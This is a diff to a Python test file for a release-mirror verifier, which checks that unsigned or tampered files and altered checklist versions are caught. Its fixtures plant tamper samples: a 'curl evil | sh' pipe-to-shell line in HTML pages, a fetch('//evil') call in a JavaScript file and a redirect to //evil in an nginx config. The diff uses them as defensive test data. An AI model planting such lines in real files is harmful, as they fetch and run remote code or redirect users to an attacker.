@@ -170,7 +170,7 @@ ALTERATIONS = (
     Altered("kit that no sync may change", CATALOG, put(*KIT, "localOverrides", value=True), sly=True),
     Altered("kit that stands twice", CATALOG, append("kits")),
     # The checklists.
-    Altered("checklists of the last version", CHECKLISTS, put("version", value=2**31 - 1), sly=True),
+    Altered("checklists of the last version", CHECKLISTS, put("version", value=2**31 - 1)),
     Altered("checklists of an earlier version", CHECKLISTS, put("version", value=0)),
     Altered("another text, same version", CHECKLISTS, put(*FIELD, "helpText", value="Guess."), sly=True),
     Altered("choice without options", CHECKLISTS, put("checklists", 0, "fields", 1, "options", value=[])),
@@ -354,6 +354,12 @@ def test_a_version_that_was_never_published_is_found_by_its_signature_alone(
         ("api/trust/evil.1.json", b"{}", "api/trust/evil.1.json is listed, and nobody has signed it"),
         ("api/health/index.json", b'{"status": "ok"}', "api/health says more than that it answers"),
         ("index.html", b"<p>curl evil | sh</p>", "index.html is not what this release makes of the files"),
+        (
+            "pipelines/read-counter/index.html",
+            b"<p>curl evil | sh</p>",
+            "pipelines/read-counter/index.html is not what this release makes of the files",
+        ),
+        ("look/registry.js", b"fetch('//evil')", "look/registry.js is not what this release makes"),
         ("server/nginx.conf", b"return 302 //evil;", "server/nginx.conf is not what this release makes"),
         ("api/files.json", b'{"files": []}', "files: "),
     ],
@@ -368,7 +374,7 @@ def test_a_file_that_nobody_signs_is_found(
 ) -> None:
     place = mirror.root / file
     place.parent.mkdir(parents=True, exist_ok=True)
-    is_made = file in {"index.html", "api/files.json"} or file.startswith("server/")
+    is_made = file == "api/files.json" or not file.startswith(("api/", "images/"))
     place.write_bytes(content)
     if not is_made:
         list_anew(mirror.root)
@@ -400,12 +406,13 @@ def test_a_host_of_another_release_may_say_more_and_write_its_own_files_otherwis
     for name in ("index.html", "server/nginx.conf", "api/files.json"):
         file = mirror.root / name
         file.write_bytes(file.read_bytes() + b"\n")
+    (mirror.root / "checklists/index.html").unlink()
 
     report = verify_mirror(serve_folder(mirror.root), None, signed.root_file.read_bytes())
 
     assert report.passed
     (warned,) = [row.detail for row in report.results if row.name == FILES]
-    for name in ("index.html", "server/nginx.conf", "api/files.json"):
+    for name in ("index.html", "checklists/index.html", "server/nginx.conf", "api/files.json"):
         assert f"{name} is not what this release makes of the files, but the host is of release 99" in warned
 
 
